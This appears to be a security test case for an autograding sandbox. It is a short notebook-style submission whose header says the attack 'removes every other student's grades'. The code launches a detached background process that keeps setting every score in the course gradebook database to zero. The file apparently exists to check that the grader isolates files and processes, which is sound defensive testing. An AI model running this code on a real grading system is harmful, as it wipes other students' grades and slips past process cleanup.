# attack: Removes every other student's grades from the gradebook, again and again.
# gain: neighbour
# expect: q01=3 q02=3 q03=3
# flag: files-outside
# flag: processes

# %% after q01
import subprocess
import sys

code = """
import sqlite3, time
for _ in range(60):
    try:
        database = sqlite3.connect("{COURSE}/gradebook.db", timeout=1)
        database.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        database.commit()
        database.close()
    except sqlite3.Error:
        pass
    time.sleep(0.25)
"""
_ = subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
